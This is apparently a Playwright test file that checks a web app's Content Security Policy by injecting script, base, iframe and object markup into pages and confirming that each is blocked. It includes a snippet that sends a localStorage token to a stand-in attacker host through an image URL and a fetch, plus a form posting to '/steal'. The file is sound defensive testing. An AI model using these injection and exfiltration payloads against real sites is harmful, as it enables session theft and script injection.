import type { Page } from '@playwright/test';
import { blockScripts, openPage } from './open-page.ts';
import { expect, test } from './test.ts';

const elsewhere = 'http://elsewhere.example';

/** Injected markup and scripts: each records that it ran, or changes what is seen. */
const inHead = `
<base href="${elsewhere}/">
<script>window.inline = true</script>
<script src="${elsewhere}/script.js"></script>
<link rel="stylesheet" href="${elsewhere}/style.css">
<style>html { outline-style: dashed }</style>`;
const inBody = `
<img src="data:," alt="" onerror="window.handler = true">
<iframe src="${elsewhere}/frame"></iframe>
<object data="${elsewhere}/object"></object>`;

/** Injects it into the page's HTML, as a hole in the server would. Without the policy it must work. */
async function smuggle(page: Page, path: string, policy: 'kept' | 'left out') {
  const reached: string[] = [];
  await page.route(`${elsewhere}/**`, (route) => {
    reached.push(new URL(route.request().url()).pathname);
    const isStyle = route.request().url().endsWith('.css');
    return route.fulfill({
      contentType: isStyle ? 'text/css' : 'text/javascript',
      body: isStyle ? 'html { outline-color: red }' : 'window.fromElsewhere = true',
    });
  });
  await page.route(path, async (route) => {
    const headers = { ...route.request().headers(), 'accept-encoding': 'identity' };
    const response = await route.fetch({ headers });
    const { 'content-security-policy': given = '', ...others } = response.headers();
    expect(given).toContain('script-src');
    await route.fulfill({
      headers: policy === 'kept' ? response.headers() : others,
      body: (await response.text()).replace('<head>', `<head>${inHead}`).replace('</body>', `${inBody}</body>`),
    });
  });
  const violated: string[] = [];
  await page.exposeFunction('tell', (violation: string) => violated.push(violation));
  await page.addInitScript(() => {
    const { tell } = window as unknown as { tell: (violation: string) => void };
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      tell(`${effectiveDirective} ${blockedURI.replace(/^(https?:\/\/[^/]+).*/, '$1')}`),
    );
  });
  await openPage(page, path);
  return { reached, violated };
}

const ran = (page: Page) =>
  page.evaluate(() => ({
    ...Object.fromEntries(['inline', 'handler', 'fromElsewhere', 'link'].map((name) => [name, name in window])),
    style: getComputedStyle(document.documentElement).outlineStyle === 'dashed',
    base: document.baseURI.startsWith('http://elsewhere.example'),
  }));
const nothing = { inline: false, handler: false, fromElsewhere: false, link: false, style: false, base: false };

test.describe('what is smuggled into a page', () => {
  // The browser logs what it refuses, and React logs that the markup differs.
  test.use({ allowedConsole: /./ });

  for (const path of ['/about', '/account']) {
    test(`neither runs nor reaches out: ${path}`, async ({ memberPage: page }) => {
      const { reached, violated } = await smuggle(page, path, 'kept');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect
        .poll(() => violated)
        .toEqual(
          expect.arrayContaining([
            `base-uri ${elsewhere}`,
            'script-src-elem inline',
            'script-src-attr inline',
            `script-src-elem ${elsewhere}`,
            `style-src-elem ${elsewhere}`,
            'style-src-elem inline',
            `frame-src ${elsewhere}`,
            `object-src ${elsewhere}`,
          ]),
        );

      // A script that got in some other way could still try to add to a loaded page.
      await page.evaluate((address) => {
        const link = Object.assign(document.createElement('a'), {
          href: 'javascript:window.link = true',
          textContent: 'Free',
        });
        const form = Object.assign(document.createElement('form'), { action: `${address}/steal`, method: 'post' });
        document.body.prepend(link, form);
        new Image().src = `${address}/token.png?${localStorage.getItem('token')}`;
        fetch(`${address}/token?${localStorage.getItem('token')}`).catch(() => {});
      }, elsewhere);
      await page.getByRole('link', { name: 'Free' }).click();
      await expect
        .poll(() => violated)
        .toEqual(expect.arrayContaining([`img-src ${elsewhere}`, `connect-src ${elsewhere}`]));
      expect(await ran(page)).toEqual(nothing);
      // Not awaited, because the navigation never happens.
      await page.evaluate(() => void setTimeout(() => document.querySelector('form')?.requestSubmit()));
      await expect.poll(() => violated).toContain(`form-action ${elsewhere}`);
      expect(reached).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(path);
    });
  }

  test('would do both without the policy', async ({ page }) => {
    // The injected base element redirects even the page's own code.
    await blockScripts(page);
    const { reached } = await smuggle(page, '/about', 'left out');
    await expect.poll(() => ran(page)).toMatchObject({ inline: true, handler: true, fromElsewhere: true });
    expect(reached).toEqual(expect.arrayContaining(['/script.js', '/style.css']));
  });
});
